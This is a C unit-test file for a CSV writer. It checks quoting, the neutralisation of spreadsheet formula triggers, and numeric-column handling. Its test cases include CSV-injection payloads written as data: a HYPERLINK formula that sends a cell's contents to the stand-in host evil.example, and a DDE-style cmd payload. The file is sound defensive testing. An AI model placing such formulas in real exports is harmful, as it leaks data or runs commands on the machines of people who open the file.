/*
 * Unit tests of the CSV writer (util/csvout.h): quoting, the neutralisation
 * of formula triggers, numbers of numeric columns kept as numbers, and the
 * exact round trip through csvout_unneutralise().
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "util/csvout.h"
#include "util/strbuf.h"

static const struct {
	const char *in;		/* the cell's text */
	enum csvout_kind kind;	/* its column */
	int sep;		/* separator */
	const char *out;	/* the field written */
} cases[] = {
	{ "plain", CSVOUT_TEXT, ',', "plain" },
	{ "", CSVOUT_TEXT, ',', "" },
	{ "a,b", CSVOUT_TEXT, ',', "\"a,b\"" },
	{ "a,b", CSVOUT_TEXT, ';', "a,b" },
	{ "a;b", CSVOUT_TEXT, ';', "\"a;b\"" },
	{ "say \"hi\"", CSVOUT_TEXT, ',', "\"say \"\"hi\"\"\"" },
	{ "two\nlines", CSVOUT_TEXT, ',', "\"two\nlines\"" },
	{ " edge", CSVOUT_TEXT, ',', "\" edge\"" },
	{ "=HYPERLINK(\"http://evil.example/?\"&A2,\"clic\")", CSVOUT_TEXT, ',',
	  "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"clic\"\")\"" },
	{ "@SUM(1+1)*cmd|' /C calc'!A0", CSVOUT_TEXT, ';', "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" },
	{ "+33 6 12 34 56 78", CSVOUT_TEXT, ',', "\"'+33 6 12 34 56 78\"" },
	{ "-2+3", CSVOUT_TEXT, ',', "\"'-2+3\"" },
	{ "\tx", CSVOUT_TEXT, ',', "\"'\tx\"" },
	{ "\rx", CSVOUT_TEXT, ',', "\"'\rx\"" },
	{ "'quoted", CSVOUT_TEXT, ',', "\"''quoted\"" },
	{ "-3", CSVOUT_TEXT, ',', "\"'-3\"" },
	{ "-3", CSVOUT_NUMBER, ',', "-3" },
	{ "-2.5", CSVOUT_NUMBER, ',', "-2.5" },
	{ "-2,5", CSVOUT_NUMBER, ';', "-2,5" },
	{ "-1e-3", CSVOUT_NUMBER, ',', "-1e-3" },
	{ "-1+cmd", CSVOUT_NUMBER, ',', "\"'-1+cmd\"" },
	{ "=1+1", CSVOUT_NUMBER, ',', "\"'=1+1\"" },
	{ "12", CSVOUT_NUMBER, ',', "12" },
	{ "a=b", CSVOUT_TEXT, ',', "a=b" },
};

static void test_fields(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		strbuf_reset(&sb);
		assert_int_equal(csvout_str(&sb, cases[i].sep, 1, cases[i].in, cases[i].kind), 0);
		assert_string_equal(sb.buf, cases[i].out);
	}
	strbuf_reset(&sb);
	assert_int_equal(csvout_str(&sb, ',', 1, "a", CSVOUT_TEXT), 0);
	assert_int_equal(csvout_str(&sb, ',', 0, NULL, CSVOUT_TEXT), 0);
	assert_int_equal(csvout_str(&sb, ',', 0, "=b", CSVOUT_TEXT), 0);
	assert_int_equal(csvout_end_row(&sb), 0);
	assert_string_equal(sb.buf, "a,,\"'=b\"\n");
	strbuf_release(&sb);
}

static void test_numbers(void **state)
{
	static const char *const yes[] = { "0", "-0", "12", "-2.5", "3,25", "1e9", "-1E+3" };
	static const char *const no[] = { "", "-", "+1", "1.", ".5", "1e", "1 ", "0x1", "1-1",
					  "--1", "1.2.3" };
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		assert_true(csvout_is_number(yes[i], strlen(yes[i])));
	for (i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		assert_false(csvout_is_number(no[i], strlen(no[i])));
}

/* What the writer neutralises, the reader's unneutralise gives back exactly. */
static void test_round_trip(void **state)
{
	static const char *const texts[] = {
		"=1+1", "+33", "-x", "@SUM(A1)", "\tx", "\rx", "'", "''", "'=x", "'a", "a'", "x",
		"", "=", "''=", "-",
	};
	struct strbuf sb = STRBUF_INIT;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		const char *t = texts[i], *back;
		size_t n;
		char cell[64];

		strbuf_reset(&sb);
		assert_int_equal(csvout_str(&sb, ',', 1, t, CSVOUT_TEXT), 0);
		/* undo the CSV quoting: the written cell's content */
		if (sb.buf[0] == '"') {
			size_t k, w = 0;

			for (k = 1; k + 1 < sb.len; k++) {
				cell[w++] = sb.buf[k];
				if (sb.buf[k] == '"')
					k++;
			}
			cell[w] = '\0';
		} else {
			snprintf(cell, sizeof(cell), "%s", sb.buf);
		}
		if (*t && csvout_is_trigger((unsigned char)*t))
			assert_int_equal(cell[0], '\'');
		n = strlen(cell);
		back = csvout_unneutralise(cell, &n);
		assert_int_equal(n, strlen(t));
		assert_memory_equal(back, t, n);
	}
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_numbers),
		cmocka_unit_test(test_round_trip),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
